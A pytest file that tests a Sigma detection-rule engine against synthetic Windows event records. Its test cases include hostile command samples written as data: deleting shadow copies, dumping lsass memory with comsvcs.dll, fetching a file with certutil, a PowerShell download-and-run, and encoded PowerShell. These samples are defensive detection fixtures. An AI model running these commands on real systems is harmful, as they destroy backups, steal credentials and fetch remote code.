"""Sigma rules: ours are read and each has an event that it means; what cannot be evaluated is told, never guessed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from ingestion.evidence.sigma.rules import OWN, Rules, read

SYSMON, POWERSHELL = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PowerShell/Operational"
HEAD = """
title: T
id: 12345678-1234-1234-1234-123456789012
status: test
description: T
author: T
level: high
tags: [attack.t1059.001]
logsource: {product: windows, category: process_creation}
detection:
"""


def event(channel: str, number: int, **data: Any) -> dict[str, Any]:
    return {
        "event.id": "0" * 32, "winlog.channel": channel, "winlog.event_id": number,
        "winlog.provider_name": data.pop("provider", ""), "winlog.event_data": json.dumps(data),
        "message": " ".join(map(str, data.values())),
    }  # fmt: skip


def process(command: str, image: str = "C:\\Windows\\System32\\cmd.exe", parent: str = "") -> dict[str, Any]:
    return event(SYSMON, 1, Image=image, CommandLine=command, ParentImage=parent)


@pytest.fixture(scope="module")
def own() -> Rules:
    return read([OWN])


def titles(rules: Rules, record: dict[str, Any]) -> set[str]:
    return {rule.title for rule in rules.matching(record)}


MEANT = [
    ("remote_service_of_psexec", event("System", 7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe")),
    ("service_from_a_writable_folder", event("System", 7045, ServiceName="x", ImagePath="C:\\Users\\Public\\x.exe")),
    ("service_with_a_command", event("System", 7045, ServiceName="x", ImagePath="%COMSPEC% /c whoami")),
    ("encoded_powershell", process("powershell /ENC SQBFAFgA", "C:\\Windows\\System32\\powershell.exe")),
    ("powershell_fetches_and_runs", event(POWERSHELL, 4104, ScriptBlockText="iex (New-Object Net.WebClient)")),
    ("audit_log_cleared", event("Security", 1102)),
    ("event_log_cleared", event("System", 104, provider="Microsoft-Windows-Eventlog")),
    ("shadow_copies_deleted", process("vssadmin delete shadows /all", "C:\\Windows\\System32\\vssadmin.exe")),
    ("lsass_read", process("rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 c:\\x full")),
    ("lsass_opened", event(
        SYSMON, 10, SourceImage="C:\\x.exe", TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1FFFFF"
    )),
    ("certutil_fetches", process("certutil /urlcache /f http://x.test/a b", "C:\\Windows\\System32\\certutil.exe")),
    ("rundll32_from_a_writable_folder", process(
        "rundll32 C:\\Users\\Public\\x.dll,a", "C:\\Windows\\System32\\rundll32.exe"
    )),
    ("defender_switched_off", event("Microsoft-Windows-Windows Defender/Operational", 5001)),
    ("account_made_administrator", event("Security", 4732, TargetSid="S-1-5-32-544")),
    ("scheduled_task_with_a_script", event("Security", 4698, TaskContent="<Command>C:\\Users\\Public\\x</Command>")),
    ("wmi_subscription", event("Microsoft-Windows-WMI-Activity/Operational", 5861, PossibleCause="Binding evil")),
    ("web_server_starts_a_shell", process("whoami", parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe")),
]  # fmt: skip


def test_every_rule_of_ours_is_evaluated_and_has_a_technique(own: Rules) -> None:
    assert own.skipped == {}
    assert len(own.rules) == len(list(OWN.glob("*.yml"))) == len(MEANT)
    assert all(rule.techniques for rule in own.rules)


@pytest.mark.parametrize(("name", "record"), MEANT, ids=[name for name, _record in MEANT])
def test_a_rule_means_its_event(name: str, record: dict[str, Any], own: Rules) -> None:
    (rule,) = read_text((OWN / f"{name}.yml").read_text(), own)
    assert rule in titles(own, record)


def read_text(text: str, rules: Rules) -> list[str]:
    """The title in the text, which is one of the rules'."""
    title = text.partition("\n")[0].removeprefix("title: ")
    return [rule.title for rule in rules.rules if rule.title == title]


@pytest.mark.parametrize(
    "record",
    [
        process("notepad.exe C:\\Users\\x\\Documents\\shadow.txt"),
        process("powershell -File C:\\x.ps1", "C:\\Windows\\System32\\powershell.exe"),
        event("System", 7045, ServiceName="Spooler", ImagePath="C:\\Windows\\System32\\spoolsv.exe"),
        event("Application", 1102),
        event("Security", 4732, TargetSid="S-1-5-32-545"),
        {"event.id": "0" * 32, "message": "vssadmin delete shadows"},
        {"event.id": "0" * 32, "winlog.channel": "System", "winlog.event_id": 7045, "winlog.event_data": '{"cut'},
    ],
)
def test_what_every_machine_does_fulfils_none(record: dict[str, Any], own: Rules) -> None:
    assert titles(own, record) == set()


def one(tmp_path: Path, detection: str, head: str = HEAD) -> Rules:
    (tmp_path / "t.yml").write_text(head + detection)
    return read([tmp_path])


@pytest.mark.parametrize(
    ("detection", "yes", "no"),
    [
        ("  a: {CommandLine|contains|all: [x, y]}\n  condition: a", {"CommandLine": "YaX"}, {"CommandLine": "x"}),
        ("  a: {CommandLine|cased|contains: X}\n  condition: a", {"CommandLine": "aXb"}, {"CommandLine": "axb"}),
        ("  a: {ParentImage: null}\n  condition: a", {"CommandLine": "x"}, {"ParentImage": "y"}),
        ("  a: {User|exists: true}\n  condition: a", {"User": "z"}, {"CommandLine": "x"}),
        ("  a: {Ip|cidr: 10.0.0.0/8}\n  condition: a", {"Ip": "::ffff:10.9.8.7"}, {"Ip": "11.0.0.1"}),
        ("  a: {Size|gt: 5}\n  condition: a", {"Size": "0x10"}, {"Size": "5"}),
        ("  a: {Size: 5}\n  condition: a", {"Size": 5}, {"Size": "50"}),
        ("  a: {Image|fieldref: ParentImage}\n  condition: a", {"Image": "q", "ParentImage": "Q"}, {"Image": "q"}),
        ("  a:\n    - evil\n    - w*d\n  condition: a", {"X": "is EVIL"}, {"X": "good"}),
        ("  a: {X: 1}\n  b: {Y: 2}\n  condition: a and not b", {"X": "1"}, {"X": "1", "Y": "2"}),
        ("  s1: {X: 1}\n  s2: {Y: 2}\n  condition: 1 of s*", {"Y": "2"}, {"Z": "2"}),
        ("  a: {X|base64offset|contains: IEX}\n  condition: a", {"X": "__SUVY__"}, {"X": "IEX"}),
    ],
)
def test_what_a_condition_says(detection: str, yes: dict[str, Any], no: dict[str, Any], tmp_path: Path) -> None:
    rules = one(tmp_path, detection)
    assert rules.skipped == {}
    assert titles(rules, event(SYSMON, 1, **yes)) == {"T"}
    assert titles(rules, event(SYSMON, 1, **no)) == set()


def test_the_audit_logs_own_names_are_meant_too(tmp_path: Path) -> None:
    rules = one(tmp_path, "  a: {Image|endswith: '\\a.exe'}\n  condition: a")
    assert titles(rules, event("Security", 4688, NewProcessName="C:\\A.EXE")) == {"T"}
    assert titles(rules, event("Security", 4689, NewProcessName="C:\\A.EXE")) == set()


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (HEAD + "  a: {CommandLine|re: '(a+)+$'}\n  condition: a", "RegularExpression"),
        (HEAD + "  a: {X|expand: '%users%'}\n  condition: a", "placeholder"),
        (HEAD.replace("windows", "linux") + "  a: {X: 1}\n  condition: a", "linux"),
        (HEAD.replace("process_creation", "webserver") + "  a: {X: 1}\n  condition: a", "webserver"),
        (HEAD + "  a: {X: 1}", "no rule"),
        ("title: [", "no rule"),
        ("- 1", "no rule"),
        ("", "no rule"),
    ],
)
def test_a_rule_that_is_not_evaluated_is_told_with_its_reason(text: str, why: str, tmp_path: Path) -> None:
    (tmp_path / "t.yml").write_text(text)
    rules = read([tmp_path])
    assert rules.rules == []
    assert why in rules.skipped["t.yml"]


def test_an_id_counts_once_and_a_folder_that_is_not_there_has_none(tmp_path: Path) -> None:
    rule = HEAD + "  a: {X: 1}\n  condition: a"
    for name in ("a.yml", "b.yaml"):
        (tmp_path / name).write_text(rule)
    found = read([tmp_path, tmp_path / "absent"])
    assert (len(found.rules), list(found.skipped)) == (1, ["b.yaml"])
